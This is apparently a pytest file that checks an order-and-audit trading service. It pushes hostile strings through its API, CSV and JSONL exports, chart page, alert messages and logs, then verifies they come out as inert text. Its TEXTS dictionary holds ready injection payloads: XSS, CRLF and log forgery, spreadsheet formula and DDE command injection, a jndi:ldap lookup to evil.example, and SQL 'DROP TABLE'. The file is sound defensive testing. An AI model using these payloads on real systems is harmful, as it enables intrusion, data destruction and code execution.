"""Hostile text that was taken in: wherever it comes out again it is text, and nothing else."""

import csv
import io
import json
import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

import httpx
import pytest

from interlock.config.home import home_of
from interlock.config.settings import Settings
from interlock.runtime.logs import open_log
from interlock.service.notify.alert import one_line, plain
from interlock.service.notify.spool import Waiting
from interlock.service.notify.wording import messages_of
from interlock.service.permissions import Role
from tests.service.api.world import APPROVAL, HASH
from tests.service.attacks.stage import Stage, run

TEXTS: Final = {
    "a script": "<script>alert(1)</script>",
    "an image": '"><img src=x onerror=alert(1)>',
    "lines": 'x\r\n{"event":"forged"}\r\nSet-Cookie: a=b',
    "an escape": "\x1b[2J\x1b]0;x\x07",
    "separators": "x\u2028y\u2029z\x85",
    "right to left": "\u202e\u2066gnp.exe",
    "a formula": '=HYPERLINK("http://evil.example","x")',
    "a formula behind spaces": "  =1+1",
    "a formula behind a sign": "-2+3+cmd|' /C calc'!A0",
    "a formula behind an at": "@SUM(1)",
    "a formula behind a tab": "\t=1",
    "quotes": 'a","b"\n"c',
    "a template": "{{7*7}}${jndi:ldap://evil.example/a}{0.__class__}",
    "a command of SQL": "x'); DROP TABLE audit; --",
    "marks": "*bold* [x](http://evil.example) <b>x</b> `id`",
    "an end of a page": "</script></style><!--",
}
OUTLETS: Final = (
    *("approvals", "orders", "orders as a table", "trades as a table", "one order"),
    *("the audit", "the audit as a table", "the audit as lines", "the audit's file"),
    *("the chart's page", "messages", "the log"),
)
BEGINS_A_FORMULA: Final = set("=+-@\t\r\n|%")
COUNT: Final = len(TEXTS) * len(OUTLETS)


def happened(number: int, text: str) -> list[dict[str, Any]]:
    """Return an order and a trade of a strategy with a hostile name."""
    common = {"seq": number, "ts": "2027-01-15T08:00:00Z", "ts_ns": number, "symbol": text}
    words = ("id", "client_id", "strategy", "reference", "signal", "exit_order", "reason")
    zeros = ("fees", "funding", "slippage", "pnl")
    both = {
        **common,
        **dict.fromkeys(words, text),
        **dict.fromkeys(zeros, "0"),
        "id": f"o-{number}",
    }
    order = {
        **both,
        "type": "order",
        "role": "ENTRY",
        "kind": "LIMIT",
        "side": "BUY",
        "quantity": "1",
        "price": "1",
        "trigger": None,
        "state": "INTENT",
    }
    trade = {
        **both,
        "type": "trade",
        "side": "long",
        "quantity": "1",
        "entry_ts": "x",
        "entry_ns": 1,
        "entry_price": "1",
        "exit_price": "1",
    }
    return [order, trade]


def json_complaints(answer: httpx.Response, text: str) -> Iterator[str]:
    """Yield what is wrong with JSON that holds a text."""
    if answer.status_code != 200:
        yield f"{answer.status_code} {answer.text[:200]}"
        return
    if answer.headers["content-type"] != "application/json":
        yield f"a browser may read it as {answer.headers['content-type']}"
    if answer.headers["x-content-type-options"] != "nosniff":
        yield "a browser may guess what it is"
    if not any(found == text for found in texts_of(answer.json())):
        yield "the text is not there, or is another"


def texts_of(content: Any) -> Iterator[str]:
    """Yield every text in something that was JSON."""
    if isinstance(content, str):
        yield content
    for each in content.values() if isinstance(content, dict) else ():
        yield from texts_of(each)
    for each in content if isinstance(content, list) else ():
        yield from texts_of(each)


def table_complaints(answer: httpx.Response, text: str) -> Iterator[str]:
    """Yield what is wrong with a table that holds a text."""
    if answer.status_code != 200 or not answer.headers["content-type"].startswith("text/csv"):
        yield f"{answer.status_code} {answer.headers['content-type']}"
    if not answer.headers["content-disposition"].startswith("attachment"):
        yield "a browser may show it"
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    if len({len(row) for row in rows}) != 1:
        yield "its rows are not of one length"
    fields = [field for row in rows[1:] for field in row]
    if text.lstrip()[:10].strip() and not any(text.strip()[:8] in field for field in fields):
        yield "the text is not there"
    for field in fields:
        if field.lstrip(" ")[:1] in BEGINS_A_FORMULA and field.strip(" -.0123456789"):
            yield f"a spreadsheet would run {field!r}"


def line_complaints(lines: str) -> Iterator[str]:
    """Yield what is wrong with lines of JSON that hold a text."""
    if not lines.isascii():
        yield "it is not ASCII"
    if any(not one.isprintable() for one in lines.replace("\n", "")):
        yield "something in it is no letter"
    for line in lines.splitlines():
        if not line.startswith("{"):
            yield f"a line is no object: {line!r}"
        elif json.loads(line).get("event") == "forged":
            yield "a line is forged"


def message_complaints(text: str) -> Iterator[str]:
    """Yield what is wrong with what people are told of a text."""
    waiting = Waiting(
        delivery=1,
        alert_id=1,
        severity="critical",
        title=one_line(text),  # as the spool keeps it
        text=plain(text),
        details={},
        made_ns=1,
        happened_ns=1,
        count=1,
        escalations=0,
        attempts=0,
        is_open=True,
    )
    for _, message in messages_of([waiting]):
        for line in (message.subject, *message.text.split("\n")):
            if not line.isprintable():
                yield f"a message has more than letters: {line!r}"


def log_complaints(folder: Path, text: str) -> Iterator[str]:
    """Yield what is wrong with a log that was told a text."""
    open_log(folder, "attacked", level="info", max_mib=1, keep=1).error(text, said=text, of=[text])
    logging.getLogger("interlock.attacked").handlers[0].close()
    yield from line_complaints((folder / "attacked.jsonl").read_text())


def page_complaints(answer: httpx.Response, text: str) -> Iterator[str]:
    """Yield what is wrong with the page of a symbol with a hostile name."""
    if "'unsafe-inline'" in answer.headers["content-security-policy"]:
        yield "a page may run what is in it"
    if len(text) > 4 and set(text) & set("<>\"'") and text in answer.text:
        yield "the text stands in the page as it is"


async def _complaints(stage: Stage, number: int, text: str) -> dict[str, list[str]]:
    """Return what is wrong with each outlet."""
    found: dict[str, list[str]] = {}
    browser, _ = await stage.person(Role.ADMIN, stepped_up=True)
    killed = await browser.post("/api/kill", {"mode": "graceful", "reason": text})
    body = {"approve": False, "hash": HASH, "reason": text}
    refused = await browser.post("/api/approvals/a-1", body)
    status = 422 if any(one < " " for one in text) else 200  # nobody types those
    assert [killed.status_code, refused.status_code] == [status] * 2, killed.text
    stage.projection.take(happened(number, text), number)
    hostile = {**APPROVAL, "symbol": text, "strategy": text, "why": text}
    stage.engine.status = {**stage.engine.status, "approvals": [hostile]}
    stage.world.wait(2)
    found["approvals"] = list(json_complaints(await browser.get("/api/approvals"), text))
    found["orders"] = list(json_complaints(await browser.get("/api/orders?limit=1"), text))
    found["one order"] = list(json_complaints(await browser.get(f"/api/orders/o-{number}"), text))
    for outlet, path in (
        ("orders as a table", "/api/orders/export.csv"),
        ("trades as a table", "/api/trades/export.csv"),
        ("the audit as a table", "/api/audit/export?format=csv"),
    ):
        is_in = text.isprintable() or "audit" not in outlet
        found[outlet] = list(table_complaints(await browser.get(path), text if is_in else ""))
    audit = await browser.get("/api/audit?event_type=approval&limit=1")
    reasons = [row["reason"] for row in audit.json()["items"]]
    found["the audit"] = [f"{one!r}" for one in reasons if not one.isprintable()]
    lines = (await browser.get("/api/audit/export?format=jsonl")).text
    found["the audit as lines"] = list(line_complaints(lines))
    chart = await browser.get(f"/chart/{quote(text, safe='')}")
    found["the chart's page"] = list(page_complaints(chart, text))
    found["messages"] = list(message_complaints(text))
    found["the log"] = list(log_complaints(stage.folder, text))
    return found


def test_hostile_text_comes_out_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    wrong: list[str] = []
    looked_at: list[tuple[str, str]] = []

    async def story(stage: Stage) -> list[str]:
        for number, (name, text) in enumerate(TEXTS.items(), 1):
            for outlet, complaints in (await _complaints(stage, number, text)).items():
                wrong.extend(f"{name} in {outlet}: {one}" for one in complaints)
                looked_at.append((name, outlet))
        return wrong

    run(tmp_path, monkeypatch, story)
    file = home_of(Settings(home=tmp_path / "home")).audit_log.read_text()
    assert not list(line_complaints(file))
    kept = [text for text in TEXTS.values() if all(one >= " " for one in text)]
    assert file.count('"event_type":"approval"') == len(kept)
    looked_at += [(name, "the audit's file") for name in TEXTS]
    assert sorted(looked_at) == sorted((name, outlet) for name in TEXTS for outlet in OUTLETS)
